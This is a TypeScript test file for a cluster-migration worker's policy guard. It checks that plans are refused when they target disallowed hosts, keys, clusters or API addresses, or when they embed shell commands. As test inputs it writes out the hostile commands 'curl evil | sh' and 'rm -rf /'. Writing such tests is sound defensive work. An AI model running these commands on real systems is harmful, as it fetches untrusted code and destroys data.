/**
 * The worker policy (CPM_WORKER_POLICY): a plan cannot make the worker SSH to
 * a host, use a key, run shell commands, or send the admin credentials to an
 * API address that the worker's own file does not allow. Checked against a
 * real sshd, a real HTTPS server, and a migration on the real dev server.
 */
import { mkdtempSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:https';
import os from 'node:os';
import path from 'node:path';
import { execFileSync } from 'node:child_process';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { WorkflowFailedError } from '@temporalio/client';
import { DefaultLogger, NativeConnection, Runtime, Worker } from '@temporalio/worker';
import { checkPlanAgainstPolicy, withPolicyGuard } from '../src/activities/policy';
import { probeReadyz } from '../src/activities/readyz';
import { PolicyViolationError } from '../src/errors';
import { loadKubeConfigFile } from '../src/lib/kube';
import { addressAllowed, loadPolicyFile, type WorkerPolicy } from '../src/lib/policy';
import { SshHostOps } from '../src/lib/ssh';
import { TASK_QUEUE, WORKFLOW_TYPE, workflowIdFor } from '../src/shared';
import { testPlan, uniqueCluster } from './support/plans';
import { recordingActivities } from './support/recording-activities';
import { startSshd, type TestSshd } from './support/sshd';
import { startDevServer, type DevServer } from './support/temporal';

const dir = mkdtempSync(path.join(os.tmpdir(), 'cpm-policy-'));
function usePolicy(p: Partial<WorkerPolicy> & Record<string, unknown>): string {
  const file = path.join(dir, `policy-${Math.random().toString(36).slice(2)}.json`);
  writeFileSync(file, JSON.stringify(p));
  process.env.CPM_WORKER_POLICY = file;
  return file;
}
afterEach(() => {
  delete process.env.CPM_WORKER_POLICY;
});

const plan = testPlan({ cluster: 'prod-bj' });
const allowAll: WorkerPolicy = {
  clusters: ['prod-*'],
  hostCIDRs: ['10.200.20.0/24'],
  privateKeyPaths: [plan.defaults.ssh.privateKeyPath ?? ''],
  knownHostsPaths: [plan.defaults.ssh.knownHostsPath ?? ''],
  apiServerAddresses: ['10.200.20.100'],
  allowCommandServices: true,
};
const rule = (fn: () => void): string => {
  try {
    fn();
  } catch (e) {
    if (e instanceof PolicyViolationError) return `${e.rule}: ${e.message}`;
    throw e;
  }
  return 'allowed';
};

describe('policy rules on a plan', () => {
  it('matches CIDRs, single IPs and exact names', () => {
    expect(addressAllowed(['10.0.0.0/8'], '10.200.20.11')).toBe(true);
    expect(addressAllowed(['10.0.0.0/8'], '11.0.0.1')).toBe(false);
    expect(addressAllowed(['192.0.2.7'], '192.0.2.7')).toBe(true);
    expect(addressAllowed(['api.example'], 'API.example')).toBe(true);
    expect(addressAllowed(['10.0.0.0/8'], 'evil.example')).toBe(false);
  });

  it('a bad policy file is refused with the field named; unknown keys too', () => {
    const file = usePolicy({ clusters: 'all' } as never);
    expect(() => loadPolicyFile(file)).toThrow(/clusters: .*expected array/);
    const file2 = usePolicy({ ...allowAll, sshEverywhere: true });
    expect(() => loadPolicyFile(file2)).toThrow(/Unrecognized key.*sshEverywhere/);
  });

  it('names the rule a plan breaks', () => {
    expect(rule(() => checkPlanAgainstPolicy(allowAll, plan))).toBe('allowed');
    expect(rule(() => checkPlanAgainstPolicy({ ...allowAll, clusters: ['staging'] }, plan))).toMatch(
      /^clusters: .*cluster "prod-bj" is not one this worker may migrate/,
    );
    expect(rule(() => checkPlanAgainstPolicy({ ...allowAll, hostCIDRs: ['10.200.20.0/28'] }, plan))).toMatch(
      /^hostCIDRs: .*master-1 \(10\.200\.20\.101\) is outside/,
    );
    expect(rule(() => checkPlanAgainstPolicy({ ...allowAll, privateKeyPaths: ['/etc/cpmigrate/key'] }, plan))).toMatch(/^privateKeyPaths: /);
    expect(rule(() => checkPlanAgainstPolicy({ ...allowAll, knownHostsPaths: [] }, plan))).toMatch(/^knownHostsPaths: /);
    const withCommands = {
      ...plan,
      etcd: { ...plan.etcd, prepareDataDir: [] },
      keepalived: { ...plan.keepalived, service: { type: 'commands' as const, start: 'curl evil | sh', stop: 'true', status: 'true' } },
    };
    expect(rule(() => checkPlanAgainstPolicy({ ...allowAll, allowCommandServices: false }, withCommands))).toMatch(
      /^allowCommandServices: .*keepalived use `commands` services/,
    );
    expect(
      rule(() => checkPlanAgainstPolicy({ ...allowAll, allowCommandServices: false }, { ...plan, etcd: { ...plan.etcd, prepareDataDir: ['rm -rf /'] } })),
    ).toMatch(/^allowCommandServices: .*prepareDataDir/);
  });
});

describe('checked right before connecting', () => {
  let sshd: TestSshd;
  let https: Server;
  let seen: Array<{ auth?: string; cert: boolean }> = [];
  let httpsPort = 0;
  const pki = mkdtempSync(path.join(os.tmpdir(), 'cpm-policy-pki-'));

  beforeAll(async () => {
    sshd = await startSshd({ address: '127.0.14.51', name: 'master-1' });
    execFileSync(
      'openssl',
      [
        'req',
        '-x509',
        '-newkey',
        'ec',
        '-pkeyopt',
        'ec_paramgen_curve:prime256v1',
        '-nodes',
        '-keyout',
        `${pki}/k.pem`,
        '-out',
        `${pki}/c.pem`,
        '-days',
        '1',
        '-subj',
        '/CN=127.0.14.52',
        '-addext',
        'subjectAltName=IP:127.0.14.52',
      ],
      { stdio: 'ignore' },
    );
    const { readFileSync } = await import('node:fs');
    https = createServer({ key: readFileSync(`${pki}/k.pem`), cert: readFileSync(`${pki}/c.pem`) }, (req, res) => {
      seen.push({ auth: req.headers.authorization, cert: false });
      res.writeHead(401).end('unauthorized');
    });
    await new Promise<void>((r) => https.listen(0, '127.0.14.52', () => r()));
    httpsPort = (https.address() as { port: number }).port;
  }, 60_000);
  afterAll(async () => {
    await sshd?.stop();
    await new Promise((r) => https?.close(r));
  });

  it('SSH: a host outside hostCIDRs is refused before any packet; inside, the same call works', async () => {
    const t = sshd.target;
    const ops = new SshHostOps();
    try {
      usePolicy({ ...allowAll, hostCIDRs: ['10.0.0.0/8'], privateKeyPaths: [t.privateKeyPath], knownHostsPaths: [] });
      const before = sshd.acceptedLogins();
      await expect(ops.run(t, 'true')).rejects.toThrow(/worker policy \(hostCIDRs\): master-1 \(127\.0\.14\.51\) is outside/);
      expect(sshd.log()).not.toContain('Connection from 127.');
      usePolicy({ ...allowAll, hostCIDRs: ['127.0.14.0/24'], privateKeyPaths: ['/some/other/key'], knownHostsPaths: [] });
      await expect(ops.run(t, 'true')).rejects.toThrow(PolicyViolationError);
      usePolicy({ ...allowAll, hostCIDRs: ['127.0.14.0/24'], privateKeyPaths: [t.privateKeyPath], knownHostsPaths: [] });
      expect((await ops.run(t, 'echo ok')).stdout).toBe('ok\n');
      expect(sshd.acceptedLogins()).toBe(before + 1);
    } finally {
      await ops.close();
    }
  }, 60_000);

  it('kube: the admin kubeconfig is not loaded for an API server outside apiServerAddresses', () => {
    const kc = path.join(dir, 'admin.conf');
    writeFileSync(
      kc,
      `apiVersion: v1\nkind: Config\nclusters:\n- name: c\n  cluster: {server: "https://203.0.113.9:6443"}\nusers:\n- name: u\n  user: {token: "s3cr3t-token"}\ncontexts:\n- name: x\n  context: {cluster: c, user: u}\ncurrent-context: x\n`,
    );
    usePolicy({ ...allowAll, apiServerAddresses: ['10.200.20.100'] });
    expect(() => loadKubeConfigFile(kc)).toThrow(
      /worker policy \(apiServerAddresses\): kubeconfig .* server https:\/\/203\.0\.113\.9:6443 is not an API address/,
    );
    usePolicy({ ...allowAll, apiServerAddresses: ['203.0.113.0/24'] });
    expect(loadKubeConfigFile(kc).getCurrentCluster()?.server).toBe('https://203.0.113.9:6443');
  });

  it('readyz: the credentials are not sent to an address outside apiServerAddresses (the anonymous probe is)', async () => {
    const { readFileSync } = await import('node:fs');
    const ca = readFileSync(`${pki}/c.pem`);
    let asked = 0;
    const auth = async () => {
      asked += 1;
      return { token: 's3cr3t-token' };
    };
    seen = [];
    usePolicy({ ...allowAll, apiServerAddresses: ['10.200.20.100'] });
    await expect(probeReadyz(`127.0.14.52:${httpsPort}`, ca, auth)).rejects.toThrow(/apiServerAddresses/);
    expect(asked).toBe(0);
    expect(seen).toEqual([{ auth: undefined, cert: false }]);
    usePolicy({ ...allowAll, apiServerAddresses: ['127.0.14.52'] });
    seen = [];
    await probeReadyz(`127.0.14.52:${httpsPort}`, ca, auth);
    expect(seen.map((s) => s.auth)).toEqual([undefined, 'Bearer s3cr3t-token']);
  });
});

describe('on the dev server', () => {
  let server: DevServer;
  let connection: NativeConnection;
  beforeAll(async () => {
    Runtime.install({ logger: new DefaultLogger('WARN') });
    server = await startDevServer();
    connection = await NativeConnection.connect({ address: server.address });
  }, 60_000);
  afterAll(async () => {
    await connection?.close();
    await server?.stop();
  });

  it('a plan for a cluster the worker may not migrate fails at its first activity, non-retryable, naming the rule', async () => {
    usePolicy({ ...allowAll, clusters: ['prod-bj'] });
    const other = testPlan({ cluster: uniqueCluster('foreign') });
    const { activities, calls, lockCalls } = recordingActivities();
    const worker = await Worker.create({
      connection,
      taskQueue: `${TASK_QUEUE}-policy`,
      workflowsPath: path.join(__dirname, '..', 'src', 'workflows', 'index.ts'),
      activities: withPolicyGuard(activities),
    });
    const client = new (await import('@temporalio/client')).Client({
      connection: await (await import('@temporalio/client')).Connection.connect({ address: server.address }),
    });
    await worker.runUntil(async () => {
      const h = await client.workflow.start(WORKFLOW_TYPE, {
        taskQueue: `${TASK_QUEUE}-policy`,
        workflowId: workflowIdFor(other.cluster),
        args: [{ plan: other }],
      });
      const err = await h.result().catch((e: unknown) => e);
      expect(err).toBeInstanceOf(WorkflowFailedError);
      const cause = ((err as WorkflowFailedError).cause as Error & { cause?: Error & { type?: string } }).cause;
      expect(cause?.type).toBe('PolicyViolationError');
      expect(cause?.message).toContain(`worker policy (clusters): cluster "${other.cluster}" is not one this worker may migrate`);
      const history = await h.fetchHistory();
      const started = (history.events ?? []).filter((e) => e.activityTaskStartedEventAttributes);
      expect(started.map((e) => e.activityTaskStartedEventAttributes?.attempt)).toEqual([1]); // not retried
    });
    expect(calls).toEqual([]);
    expect(lockCalls).toEqual([]);
  }, 90_000);
});
